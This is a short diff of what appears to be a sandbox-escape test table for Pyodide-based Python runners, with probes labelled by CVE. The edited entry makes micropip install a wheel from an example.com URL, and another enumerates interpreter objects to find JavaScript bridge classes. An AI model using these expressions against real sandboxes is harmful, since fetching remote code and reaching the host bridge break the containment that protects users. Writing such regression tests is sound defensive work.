@@ -133,7 +133,12 @@ const BRIDGE = expressions([
     'ModuleNotFoundError',
     'CVE-2026-25904 (mcp-run-python)',
   ],
-  ['bridge-installer', "__import__('micropip')", 'ModuleNotFoundError', 'CVE-2026-24002 (Grist)'],
+  [
+    'bridge-installer',
+    "__import__('micropip').install('https://example.com/x-1.0-py3-none-any.whl')",
+    'ValueError',
+    'CVE-2026-24002 (Grist)',
+  ],
   [
     'bridge-types',
     "sorted({c.__name__ for c in [*object.__subclasses__(), *map(type, __import__('gc').get_objects())] if c.__name__.startswith(('Js', 'PyProxy')) or 'pyodide' in c.__name__.lower()})",
